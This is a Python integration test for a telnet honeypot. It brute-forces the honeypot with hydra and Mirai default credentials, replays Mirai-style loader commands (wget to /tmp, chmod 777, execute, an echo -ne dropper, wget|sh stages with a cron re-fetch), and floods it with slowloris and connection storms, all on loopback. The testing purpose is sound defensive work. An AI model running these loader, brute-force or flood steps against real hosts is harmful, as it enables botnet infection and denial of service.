#!/usr/bin/env python3
"""The telnet honeypot against real clients, on loopback (root not needed).

a. hydra brute-forces the telnet honeypot with Mirai's default credentials ($KANSOKU_SHARED/data/credentials);
   the honeypot accepts exactly one pair of that list. Every attempt hydra reports (-V) is one honeypot.login
   event, the accepted pair is logged with success true and hydra reports it found.
b. The real /usr/bin/telnet, driven through a pseudo-terminal, runs a Mirai-style loader: enable, system, shell,
   sh, /bin/busybox ECCHI, cat /proc/mounts, a wget from a loopback HTTP server of a file that is a shell script
   touching a marker, chmod, ./.x, an `echo -ne` loader building a second file, ./.y. Both files end up in the
   sample store under their SHA-256 with no execute bit, with sample and honeypot.download events of the session,
   the HTTP server saw exactly one GET with a Wget User-Agent, and nothing ran on the host (no marker file).
c. Bad input: binary garbage, a 1 MiB line, 10,000 IAC negotiations, a slowloris client (1 byte/s), an idle
   client and 200 parallel connections from one source, while a normal login from another loopback address keeps
   working; the honeypot's VmRSS stays under 100 MiB and every limit hit is counted.

d. A three-stage loader (tests/data/loaders/wget_stages.sh, its stages served by a loopback HTTP server) over
   the real telnet: each wget returns once the file is fetched, so `sh bins.sh` and `./.bot` right after run
   the real bytes; every stage is a sample, in order, each fetched once; `kansoku query commands` counts the
   commands; the session's asciinema cast replays (`kansoku honeypot replay`, --dump and timed) to the screen
   the telnet client showed.

Usage: honeypot_telnet.py PATH/TO/kansoku [--keep DIR] [--only a|b|c|d]
"""

import json
import os
import random
import re
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import honeypot_lab as hl  # noqa: E402
import integ_common as ic  # noqa: E402

ACCEPTED = ("root", "xc3511")  # a pair of mirai-default-credentials.txt
HYDRA_TASKS = 4
RSS_LIMIT_KIB = 100 * 1024
PARALLEL = 200
PER_SOURCE = 16
NORMAL_SOURCE = "127.0.0.2"  # the normal client's source; the flood comes from 127.0.0.1
_HYDRA_ATTEMPT = re.compile(r'^\[(?:RE-)?ATTEMPT\] target \S+ - login "(.*)" - pass "(.*)" - \d+ of \d+')
_HYDRA_FOUND = re.compile(r"^\[\d+\]\[telnet\] host: \S+\s+login: (\S*)\s+password: (.*)$")


def read_credentials(path: Path):
    pairs = []
    for line in path.read_text().splitlines():
        if line.strip() and not line.startswith("#"):
            user, _, password = line.partition(":")
            pairs.append((user, password))
    return pairs


# --- a. hydra ----------------------------------------------------------------------------------------------------
def split_lines(data: bytes):
    """Input lines as a telnet server reads them (CR NUL, CR LF, LF or a lone CR end a line), IAC commands dropped."""
    text = re.sub(rb"\xff[\xfb-\xfe].|\xff\xfa.*?\xff\xf0|\xff[\xf0-\xfa]", b"", data, flags=re.S)
    return [line.decode(errors="replace") for line in re.split(rb"\r\x00|\r\n|\n|\r", text)[:-1]]


def passwords_delivered(connections):
    """(username, password) of every line a client delivered while the server's last words were "Password: ",
    with the line before it as the username: what reached the server as a login attempt."""
    pairs = []
    for record in connections:
        at_password = False
        last_line = ""
        pending = b""
        for direction, data in record:
            if direction == "s2c":
                at_password = data.rstrip().endswith(b"assword:")
                continue
            if direction != "c2s":
                continue
            pending += data
            lines = split_lines(pending)
            if not lines:
                continue
            pending = pending[pending.rfind(b"\r") + 1:] if b"\r" in pending else b""
            pending = pending.lstrip(b"\x00\n")
            for line in lines:
                if at_password:
                    pairs.append((last_line, line))
                    at_password = False
                last_line = line
    return pairs


def test_hydra(binary: str, work: Path, checks: ic.Checks) -> None:
    credentials = ic.shared_dir() / "data" / "credentials" / "mirai-default-credentials.txt"
    if not credentials.exists():
        print(f"skip  a. hydra: {credentials} is missing (set KANSOKU_SHARED)", flush=True)
        return
    if shutil.which("hydra") is None:
        print("skip  a. hydra: hydra is not installed (scripts/setup installs it)", flush=True)
        return
    pairs = read_credentials(credentials)
    checks.check(ACCEPTED in pairs, f"a. the accepted pair {ACCEPTED[0]}:{ACCEPTED[1]} is in {credentials.name}")
    lab = hl.HoneypotLab(binary, work, {"honeypot.limits": {"max_sessions_per_source": 64}}, accepted=ACCEPTED)
    relay = None
    try:
        lab.start()
        # hydra talks to the honeypot through a recording relay: the ground truth of what it sent and when.
        relay = hl.RecordingRelay(lab.ports["telnet"])
        result = ic.run(["hydra", "-V", "-I", "-t", str(HYDRA_TASKS), "-C", credentials, "-s", relay.port,
                         "127.0.0.1", "telnet"], timeout=120, cwd=work)
        (work / "hydra.out").write_text(result.stdout + result.stderr)
        lab.wait_for_events(lambda ev: ic.of_type(ev, "honeypot.connect") and
                            len(ic.of_type(ev, "honeypot.session")) >= len(ic.of_type(ev, "honeypot.connect")), 10)
    finally:
        lab.stop()
        if relay is not None:
            relay.stop()
    with open(work / "hydra-relay.txt", "w") as transcript:
        for number, record in enumerate(relay.connections):
            for direction, data in record:
                transcript.write(f"{number} {direction} {data!r}\n")
    output = result.stdout.splitlines()
    attempts = [(m.group(1), m.group(2)) for m in map(_HYDRA_ATTEMPT.match, output) if m]
    found = [(m.group(1), m.group(2).strip()) for m in map(_HYDRA_FOUND.match, output) if m]
    sent = passwords_delivered(relay.connections)
    dropped = [data for record in relay.connections for direction, data in record if direction == "c2s-dropped"]
    events = lab.events()
    logins = ic.of_type(events, "honeypot.login")
    logged = [(e.get("username"), e.get("password")) for e in logins]
    # On a loaded machine one of hydra's workers may give up waiting at the end ("[ERROR] 1 target did not
    # resolve or could not be connected" after "1 valid password found"): hydra then exits 1 although the run
    # completed. What it really sent is compared with the events below, from the relay's transcript.
    completed = result.returncode == 0 or ("1 valid password found" in result.stdout and
                                           "[ERROR] 0 target did not complete" in result.stdout)
    checks.check(completed, f"a. hydra completes (exit {result.returncode}; {len(attempts)} [ATTEMPT] lines, "
                 f"{len(sent)} passwords sent at a Password: prompt)", result.stdout[-2000:] + result.stderr[-1000:])
    checks.check(found == [ACCEPTED], f"a. hydra reports the accepted pair found ({found})")
    checks.check(len(sent) > len(pairs) / 4 and Counter(logged) == Counter(sent),
                 f"a. every password hydra sent is one honeypot.login event with its username ({len(logged)} events, "
                 f"{len(sent)} sent)",
                 f"only sent: {sorted((Counter(sent) - Counter(logged)).elements())}\n"
                 f"only in events: {sorted((Counter(logged) - Counter(sent)).elements())}")
    checks.check(len(relay.connections) == len(ic.of_type(events, "honeypot.connect")),
                 f"a. every connection hydra made is a honeypot.connect ({len(relay.connections)})")
    successes = [(e.get("username"), e.get("password")) for e in logins if e.get("success") is True]
    checks.check(successes == [ACCEPTED], f"a. exactly the accepted pair is logged with success true ({successes})")
    checks.check(all(e.get("success") is False for e in logins if (e.get("username"), e.get("password")) != ACCEPTED),
                 "a. every other attempt is logged with success false")
    sessions = ic.of_type(events, "honeypot.session")
    per_session = Counter(e.get("session") for e in logins)
    reasons = Counter(e.get("close_reason") for e in sessions)
    checks.check(max(per_session.values(), default=0) <= 3 and reasons["protocol"] >= 1 and
                 len(sessions) >= len(logins) / 3,
                 f"a. at most 3 attempts per connection; hydra reconnected after the BusyBox login closed "
                 f"({len(sessions)} sessions, close reasons {dict(reasons)})")
    # hydra's bookkeeping, for the report: the pairs it logged as attempted but never sent as a password (the
    # username it sends after the third "Login incorrect" goes into a closed connection, and the pair is marked
    # done), and the ones it skipped because their login was already found.
    never_sent = sorted((Counter(attempts) - Counter(sent)).elements())
    skipped = [p for p in pairs if p not in attempts]
    print(f"      hydra: {len(pairs)} pairs in the list, {len(attempts)} [ATTEMPT] lines, {len(sent)} passwords "
          f"sent, {len(never_sent)} attempted but never sent {never_sent}, {len(skipped)} skipped (login "
          f"{ACCEPTED[0]} already found or duplicate); {len(dropped)} sends after the server closed: "
          f"{[d[:20] for d in dropped]}", flush=True)


# --- b. Mirai-style loader with the real telnet ----------------------------------------------------------------
def loader_files(marker: Path):
    """x.arm7: an ELF header, then a shell script that would create the marker if it ever ran, then random bytes."""
    script = f"\n#!/bin/sh\ntouch {marker}\n".encode()
    x_arm7 = b"\x7fELF\x01\x01\x01\x00" + bytes(8) + script + random.Random(4).randbytes(400)
    # The echo loader writes a small ELF in chunks of 16 bytes, as Mirai's loader does with its dropper.
    y_file = b"\x7fELF\x01\x01\x01\x00" + bytes(8) + b"\x02\x00\x28\x00" + random.Random(5).randbytes(60)
    return x_arm7, y_file


def echo_lines(data: bytes, path: str, chunk: int = 16):
    lines = []
    for i in range(0, len(data), chunk):
        escaped = "".join(f"\\x{b:02x}" for b in data[i:i + chunk])
        lines.append(f"echo -ne '{escaped}' {'>' if i == 0 else '>>'} {path}")
    return lines


def test_loader(binary: str, work: Path, checks: ic.Checks) -> None:
    if shutil.which("telnet") is None:
        print("skip  b. loader: /usr/bin/telnet is not installed (scripts/setup installs it)", flush=True)
        return
    marker = work / "EXECUTED-ON-HOST"
    x_arm7, y_file = loader_files(marker)
    server = hl.SampleServer({"/bins/x.arm7": x_arm7})
    lab = hl.HoneypotLab(binary, work, accepted=ACCEPTED)
    client = None
    transcript_ok = []
    try:
        lab.start()
        client = hl.PtyProcess(["telnet", "127.0.0.1", str(lab.ports["telnet"])], env={"TERM": "vt100", "PATH":
                                                                                     os.environ.get("PATH", "")})
        steps = [client.expect(b"login: ", 10)]
        client.sendline(ACCEPTED[0])
        steps.append(client.expect(b"Password: ", 10))
        client.sendline(ACCEPTED[1])
        steps.append(client.expect(hl.PROMPT, 10))
        commands = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI", "cat /proc/mounts",
                    f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/x.arm7 -O .x; chmod 777 .x; ./.x telnet.arm"]
        commands += echo_lines(y_file, ".y") + ["chmod 777 .y", "./.y", "/bin/busybox ECCHI"]
        for command in commands:
            client.sendline(command)
            steps.append(client.expect(hl.PROMPT, 30))
        transcript_ok = steps
        client.sendline("exit")
        client.expect(b"Connection closed", 5)
        (work / "telnet.transcript").write_bytes(client.output)
        checks.check(all(transcript_ok), f"b. telnet logged in and got a prompt after each of {len(commands)} "
                     "commands", client.output.decode(errors="replace")[-3000:])
        checks.check(b"ECCHI: applet not found" in client.output, "b. /bin/busybox ECCHI answers "
                     "'ECCHI: applet not found' as BusyBox does", client.output.decode(errors="replace")[-1500:])
        lab.wait_for_events(lambda ev: len(ic.of_type(ev, "sample")) >= 2 and ic.of_type(ev, "honeypot.session"), 15)
    finally:
        if client is not None:
            client.close()
        lab.stop()
        server.stop()
    events = lab.events()
    x_sha, y_sha = hl.sha256_of(x_arm7), hl.sha256_of(y_file)
    for name, sha, data in (("x.arm7 (wget)", x_sha, x_arm7), (".y (echo loader)", y_sha, y_file)):
        path = lab.sample_path(sha)
        stored = path.exists() and path.read_bytes() == data
        checks.check(stored, f"b. {name} is in the store under its SHA-256 {sha[:16]}...", str(path))
        if stored:
            mode = stat.S_IMODE(path.stat().st_mode)
            checks.check(mode & 0o111 == 0, f"b. {name} has no execute bit (mode {mode:04o})")
            checks.check((path.parent / f"{sha}.json").exists(), f"b. {name} has its {sha[:8]}....json record")
    sessions = {e.get("session") for e in ic.of_type(events, "honeypot.connect")}
    checks.check(len(sessions) == 1, f"b. one telnet session ({len(sessions)})")
    session = next(iter(sessions), None)
    samples = {e.get("sha256"): e for e in ic.of_type(events, "sample")}
    def sources(sha):
        value = samples.get(sha, {}).get("sources", [])
        return [v for v in value if isinstance(v, dict)] if isinstance(value, list) else []
    x_url = f"http://127.0.0.1:{server.port}/bins/x.arm7"
    checks.check(any(src.get("url") == x_url for src in sources(x_sha)),
                 "b. a sample event for x.arm7 with the URL among its sources", str(samples.get(x_sha)))
    checks.check(any(src.get("session") == session for src in sources(y_sha)),
                 "b. a sample event for .y with the session among its sources", str(samples.get(y_sha)))
    downloads = ic.of_type(events, "honeypot.download")
    wget = [d for d in downloads if d.get("sha256") == x_sha]
    echo = [d for d in downloads if d.get("sha256") == y_sha]
    checks.check(len(wget) == 1 and wget[0].get("session") == session and wget[0].get("outcome") == "ok" and
                 str(wget[0].get("url", "")).endswith("/bins/x.arm7") and wget[0].get("size") == len(x_arm7),
                 "b. one honeypot.download for the wget, in the session, outcome ok, url and size", str(downloads))
    checks.check(len(echo) >= 1 and all(d.get("session") == session for d in echo) and
                 echo[-1].get("size") == len(y_file), "b. a honeypot.download for the echo-built file in the "
                 "session with its final size", str(echo))
    gets = [r for r in server.requests if r[0] == "GET"]
    agents = [r[2].get("User-Agent", "") for r in gets]
    checks.check(len(server.requests) == 1 and len(gets) == 1 and gets[0][1] == "/bins/x.arm7" and
                 agents[0].startswith("Wget"), f"b. the HTTP server saw exactly one GET /bins/x.arm7 with "
                 f"User-Agent Wget ({[(r[0], r[1], r[2].get('User-Agent')) for r in server.requests]})")
    checks.check(not marker.exists(), "b. nothing ran on the host (the marker x.arm7 would touch is absent)")
    commands = [e.get("input") for e in ic.of_type(events, "honeypot.command")]
    checks.check("enable" in commands and "/bin/busybox ECCHI" in commands and
                 any(str(c).startswith("cd /tmp; wget") for c in commands),
                 f"b. the loader's commands are honeypot.command events ({len(commands)})")


# --- d. a multi-stage loader: wget-then-run, every stage a sample; the command table; the session's cast ----------
LOADERS = ic.REPO_ROOT / "tests" / "data" / "loaders"
_TELNET_CLIENT_LINE = re.compile(rb"^(Trying .*|Connected to .*|Escape character is .*|"
                                 rb"Connection closed by foreign host\.)\r*$")
_ESCAPE = re.compile(rb"\x1b\[[0-9;?]*[A-Za-z]|\x1b[()][0-9A-Za-z]|\x1b[=>78]")


def render(data: bytes, width: int = 80):
    """The lines a terminal shows for `data` (CR, LF, BS, wrapping; escape sequences ignored)."""
    rows = [[]]
    row = col = 0
    for ch in _ESCAPE.sub(b"", data).decode("utf-8", errors="replace"):
        if ch == "\r":
            col = 0
        elif ch == "\n":
            row, col = row + 1, 0  # the pty's ONLCR: a line feed also returns the carriage
            while len(rows) <= row:
                rows.append([])
        elif ch == "\b":
            col = max(0, col - 1)
        elif ch >= " " or ch == "\t":
            if col >= width:
                row, col = row + 1, 0
                while len(rows) <= row:
                    rows.append([])
            line = rows[row]
            while len(line) <= col:
                line.append(" ")
            line[col] = ch
            col += 1
    lines = ["".join(r).rstrip() for r in rows]
    while lines and not lines[-1]:
        lines.pop()
    return lines


def without_client_lines(transcript: bytes) -> bytes:
    """The telnet client's own lines (Trying..., Connected to..., Escape character..., Connection closed...) out."""
    kept = [line for line in transcript.split(b"\n") if not _TELNET_CLIENT_LINE.match(line)]
    return b"\n".join(kept)


def test_stages(binary: str, work: Path, checks: ic.Checks) -> None:
    if shutil.which("telnet") is None:
        print("skip  d. stages: /usr/bin/telnet is not installed (scripts/setup installs it)", flush=True)
        return
    server = hl.SampleServer({})
    origin = f"127.0.0.1:{server.port}"
    # The bot: an ELF for the persona's CPU (MIPS big-endian, ET_EXEC), so that `./.bot` "runs" and ps lists it.
    bot = b"\x7fELF\x01\x02\x01" + bytes(9) + b"\x00\x02\x00\x08" + random.Random(7).randbytes(300)
    stages = {"/bins.sh": (LOADERS / "stages" / "bins.sh").read_bytes().replace(b"192.0.2.50", origin.encode()),
              "/bins/bot.mips": bot,
              "/p.sh": (LOADERS / "stages" / "p.sh").read_bytes().replace(b"192.0.2.50", origin.encode())}
    server.files.update(stages)
    loader = [line.replace("192.0.2.50", origin) for line in (LOADERS / "wget_stages.sh").read_text().splitlines()
              if line and not line.startswith("#")]
    lab = hl.HoneypotLab(binary, work, accepted=ACCEPTED)
    client = None
    try:
        lab.start()
        client = hl.PtyProcess(["telnet", "127.0.0.1", str(lab.ports["telnet"])], env={"TERM": "vt100", "PATH":
                                                                                     os.environ.get("PATH", "")})
        steps = [client.expect(b"login: ", 10)]
        client.sendline(ACCEPTED[0])
        steps.append(client.expect(b"Password: ", 10))
        client.sendline(ACCEPTED[1])
        steps.append(client.expect(hl.PROMPT, 10))
        for line in loader:
            client.sendline(line)
            steps.append(client.expect(hl.PROMPT, 30))
        client.sendline("exit")
        client.expect(b"Connection closed", 5)
        transcript = client.output
        (work / "telnet.transcript").write_bytes(transcript)
        checks.check(all(steps), f"d. a prompt after each of the loader's {len(loader)} lines",
                     transcript.decode(errors="replace")[-2000:])
        lab.wait_for_events(lambda ev: len([e for e in ic.of_type(ev, "honeypot.download")
                                            if e.get("outcome") == "ok"]) >= 4 and ic.of_type(ev, "honeypot.session"),
                            15)
    finally:
        if client is not None:
            client.close()
        lab.stop()
        server.stop()
    text = transcript.decode(errors="replace")
    checks.check("./.bot loader.wget" in text, "d. `./.bot` right after its wget ran the fetched ELF (ps lists it "
                 "as started)", text[-1500:])
    checks.check("stage3 done" in text and "*/5 * * * * wget -qO- http://" in text,
                 "d. `wget -qO- URL | sh` ran the third stage; `cat /tmp/.cron` shows what it wrote", text[-1500:])
    events = lab.events()
    oks = [e for e in ic.of_type(events, "honeypot.download") if e.get("outcome") == "ok"]
    order = [str(e.get("url") or e.get("path")) for e in oks]
    want = [f"http://{origin}/bins.sh", f"http://{origin}/bins/bot.mips", f"http://{origin}/p.sh", "/tmp/.cron"]
    checks.check(order == want, "d. every stage is a sample, in order: bins.sh, bot.mips, p.sh, then /tmp/.cron",
                 str(order))
    checks.check([e.get("sha256") for e in oks[:3]] == [hl.sha256_of(b) for b in stages.values()],
                 "d. the three fetched stages are stored with the SHA-256 of the bytes served")
    gets = [r[1] for r in server.requests if r[0] == "GET"]
    checks.check(gets == ["/bins.sh", "/bins/bot.mips", "/p.sh"], "d. each stage was fetched once, in order "
                 "(a line that waited ran again from the file, not from the network)", str(gets))
    checks.check(lab.summary_value(r"telnet downloads: (\d+) waited for") == 3 and
                 lab.summary_value(r"(\d+) gave up at download_wait") == 0,
                 "d. the summary counts 3 waits and no wait given up", lab.stderr_text[-800:])

    # The command-frequency table from the honeypot's own events.
    db = str(lab.settings["storage"]["database"])
    query = ic.run([binary, "query", "commands", "--db", db, "--json"], timeout=60)
    rows = {}
    for line in query.stdout.splitlines():
        row = json.loads(line)
        rows[row["command"]] = row
    checks.check(query.returncode == 0 and rows.get("wget", {}).get("runs") == 3 and
                 rows.get("sh", {}).get("runs", 0) >= 2 and rows.get("wget", {}).get("sessions") == 1,
                 "d. `kansoku query commands` counts wget 3 times (the line and the stages' scripts), sh, in 1 "
                 "session", query.stdout[:600] + query.stderr)
    table = ic.run([binary, "query", "commands", "--db", db, "--limit", "3", "--since", "1h"], timeout=60)
    checks.check(table.returncode == 0 and table.stdout.startswith("command") and
                 len(table.stdout.splitlines()) == 5, "d. the table form: a header, 3 rows (--limit 3), a total line",
                 table.stdout + table.stderr)

    # The session's cast: a valid asciinema v2 file that replays to the screen the telnet client showed.
    session = next(iter({e.get("session") for e in ic.of_type(events, "honeypot.connect")}), "")
    cast_path = Path(lab.settings["honeypot"]["casts_dir"]) / f"{session}.cast"
    checks.check(cast_path.exists(), f"d. the session was recorded ({cast_path.name})")
    if not cast_path.exists():
        return
    lines = cast_path.read_text().splitlines()
    header = json.loads(lines[0])
    cast_events = [json.loads(line) for line in lines[1:]]
    times = [e[0] for e in cast_events]
    checks.check(header.get("version") == 2 and {e[1] for e in cast_events} == {"o", "i"} and times == sorted(times),
                 "d. the cast is asciinema v2 with output and input events in time order", lines[0])
    dump = subprocess.run([binary, "honeypot", "replay", session, "--dump", "--config", str(lab.config)],
                          capture_output=True, timeout=60, cwd=work)
    shown, replayed = render(without_client_lines(transcript)), render(dump.stdout)
    checks.check(dump.returncode == 0 and replayed == shown and len(shown) > 10,
                 f"d. `kansoku honeypot replay SESSION --dump` shows the same screen as the telnet client did "
                 f"({len(shown)} lines)", "\n".join(f"{a!r} | {b!r}" for a, b in zip(shown, replayed)
                                                     if a != b)[:1500] + dump.stderr.decode(errors="replace"))
    started = time.monotonic()
    timed = subprocess.run([binary, "honeypot", "replay", str(cast_path), "--speed", "1000", "--max-idle", "0.5"],
                           capture_output=True, timeout=60)
    checks.check(timed.returncode == 0 and render(timed.stdout) == shown,
                 f"d. the timed replay of the .cast file (--speed 1000) shows it too "
                 f"({time.monotonic() - started:.1f} s)", timed.stderr.decode(errors="replace"))
    bad = ic.run([binary, "honeypot", "replay", str(work / "missing.cast")], timeout=30)
    checks.check(bad.returncode != 0 and len(bad.stderr.strip().splitlines()) == 1,
                 "d. a missing cast is a one-line error", bad.stderr)


# --- c. bad input ------------------------------------------------------------------------------------------------
class RssWatch(threading.Thread):
    def __init__(self, lab: hl.HoneypotLab) -> None:
        super().__init__(daemon=True)
        self.lab = lab
        self.peak = 0
        self.stopping = threading.Event()

    def run(self) -> None:
        while not self.stopping.is_set():
            self.peak = max(self.peak, self.lab.rss_kib())
            time.sleep(0.1)


def connect(port: int, source: str = "127.0.0.1", timeout: float = 10) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    sock.bind((source, 0))
    sock.connect(("127.0.0.1", port))
    return sock


def send_quietly(sock: socket.socket, data: bytes) -> None:
    try:
        sock.sendall(data)
    except OSError:
        pass  # the honeypot closed the session: what we want to see


def drain(sock: socket.socket, seconds: float) -> bool:
    """Reads until the server closes (True) or `seconds` pass (False)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            if not sock.recv(65536):
                return True
        except socket.timeout:
            continue
        except OSError:
            return True
    return False


def normal_login(port: int) -> bool:
    client = hl.TelnetClient.__new__(hl.TelnetClient)
    client.sock = connect(port, NORMAL_SOURCE)
    client.buffer = b""
    client.closed = False
    try:
        out = client.login(*ACCEPTED, timeout=10)
        if not out.endswith(hl.PROMPT):
            return False
        client.line("echo kansoku-alive")
        return b"kansoku-alive" in client.read_until(hl.PROMPT, 10)
    except OSError:
        return False
    finally:
        client.close()


def test_bad_input(binary: str, work: Path, checks: ic.Checks) -> None:
    limits = {"max_sessions_per_source": PER_SOURCE, "idle_timeout": "3s", "session_timeout": "8s", "max_input": "256KiB"}
    lab = hl.HoneypotLab(binary, work, {"honeypot.limits": limits}, accepted=ACCEPTED)
    watch = None
    sockets = []
    try:
        lab.start()
        port = lab.ports["telnet"]
        watch = RssWatch(lab)
        watch.start()
        rng = random.Random(11)
        results = {}

        def attack(name, body):
            try:
                results[name] = body()
            except OSError as e:
                results[name] = f"error {e}"

        def garbage():
            s = connect(port)
            send_quietly(s, rng.randbytes(64 * 1024))
            closed = drain(s, 2)
            s.close()
            return closed

        def long_line():
            s = connect(port)
            send_quietly(s, b"A" * (1 << 20) + b"\r\n")
            closed = drain(s, 10)
            s.close()
            return closed

        def negotiations():
            s = connect(port)
            send_quietly(s, bytes([hl.IAC, 0xFB, 0x18]) * 5000 + bytes([hl.IAC, 0xFD, 0x03]) * 5000)
            closed = drain(s, 5)
            s.close()
            return closed

        def slowloris():
            s = connect(port)
            started = time.monotonic()
            closed = False
            for byte in b"root\r\nxc3511 and then some more bytes, one a second":
                try:
                    s.sendall(bytes([byte]))
                except OSError:
                    closed = True
                    break
                if drain(s, 1.0):
                    closed = True
                    break
                if time.monotonic() - started > 15:
                    break
            s.close()
            return closed

        def idle():
            s = connect(port)
            closed = drain(s, 8)
            s.close()
            return closed

        threads = [threading.Thread(target=attack, args=(name, body), daemon=True)
                   for name, body in (("garbage", garbage), ("long_line", long_line), ("negotiations", negotiations),
                                      ("slowloris", slowloris), ("idle", idle))]
        for thread in threads:
            thread.start()
        time.sleep(0.5)
        # 200 parallel connections from 127.0.0.1 (some of the per-source slots are the attacks above).
        for _ in range(PARALLEL):
            try:
                sockets.append(connect(port, timeout=5))
            except OSError:
                pass  # accepted by the kernel, closed at once by the honeypot: counted in its summary
        logins_ok = []
        for _ in range(3):
            logins_ok.append(normal_login(port))
            time.sleep(0.5)
        for s in sockets:
            s.close()
        sockets.clear()
        for thread in threads:
            thread.join(30)
        logins_ok.append(normal_login(port))
        checks.check(all(logins_ok), f"c. a normal login from {NORMAL_SOURCE} works during and after the attacks "
                     f"({logins_ok})")
        for name in ("garbage", "long_line", "negotiations", "slowloris", "idle"):
            checks.check(results.get(name) is True, f"c. the honeypot closed the {name} session ({results.get(name)})")
        checks.check(lab.alive(), "c. the honeypot is still running")
        rss = lab.rss_kib()
        watch.stopping.set()
        watch.join()
        peak = max(watch.peak, rss)
        checks.check(0 < peak < RSS_LIMIT_KIB, f"c. VmRSS stayed under 100 MiB (peak {peak / 1024:.1f} MiB)")
        lab.wait_for_events(lambda ev: len(ic.of_type(ev, "honeypot.session")) >= PER_SOURCE, 10)
    finally:
        for s in sockets:
            s.close()
        if watch is not None:
            watch.stopping.set()
        status = lab.stop()
    checks.check(status == 0, "c. kansoku honeypot exits 0 on SIGINT", lab.stderr_text[-2000:])
    summary = lab.stderr_text
    print("      " + "\n      ".join(line for line in summary.splitlines() if not line.startswith("honeypot: listen")),
          flush=True)
    reasons = Counter(e.get("close_reason") for e in ic.of_type(lab.events(), "honeypot.session"))
    print(f"      close reasons: {dict(reasons)}", flush=True)
    refused = lab.summary_value(r"telnet [^\n]*refused \d+ \(global\) (\d+) \(per source\)")
    checks.check(refused >= PARALLEL - PER_SOURCE, f"c. refused connections counted per source ({refused} >= "
                 f"{PARALLEL - PER_SOURCE})")
    checks.check(lab.summary_value(r"telnet [^\n]*input limit (\d+)") >= 1 and reasons["input_limit"] >= 1,
                 "c. the 1 MiB line hit the input limit (summary and close_reason input_limit)")
    checks.check(lab.summary_value(r"telnet [^\n]*timeouts (\d+) idle") >= 1 and reasons["idle_timeout"] >= 1,
                 "c. the idle client hit the idle timeout (summary and close_reason idle_timeout)")
    checks.check(lab.summary_value(r"telnet [^\n]*idle (\d+) total") >= 1 and reasons["total_timeout"] >= 1,
                 "c. the slowloris client hit the session timeout (summary and close_reason total_timeout)")
    checks.check(reasons["protocol"] >= 1, "c. the negotiation flood was closed by the protocol "
                 f"(close_reason protocol: {reasons['protocol']})")


def main() -> int:
    binary = ic.kansoku_binary()
    keep = Path(sys.argv[sys.argv.index("--keep") + 1]) if "--keep" in sys.argv else None
    only = sys.argv[sys.argv.index("--only") + 1] if "--only" in sys.argv else "abcd"
    ic.exit_on_signals()
    checks = ic.Checks()
    work = ic.make_temp_dir("kansoku-telnet-")
    try:
        for part, test in (("a", test_hydra), ("b", test_loader), ("c", test_bad_input), ("d", test_stages)):
            if part not in only:
                continue
            part_dir = work / part
            part_dir.mkdir(mode=0o700)
            started = time.monotonic()
            try:
                test(binary, part_dir, checks)
            except (RuntimeError, OSError, ValueError) as e:
                checks.check(False, f"{part}. ran to the end", f"{type(e).__name__}: {e}")
            print(f"      ({part}: {time.monotonic() - started:.1f} s)", flush=True)
    finally:
        if keep is not None:
            for part_dir in sorted(p for p in work.iterdir() if p.is_dir()):
                ic.keep_files(part_dir, keep / part_dir.name, f"part {part_dir.name}'s config and logs")
                if (part_dir / "var").exists():
                    ic.keep_files(part_dir / "var", keep / part_dir.name / "var", f"part {part_dir.name}'s outputs")
        ic.remove_temp_dir(work)
    if checks.passed + checks.failed == 0:
        ic.skip("every part was skipped (see the lines above)")
    return checks.exit_code()


if __name__ == "__main__":
    sys.exit(main())
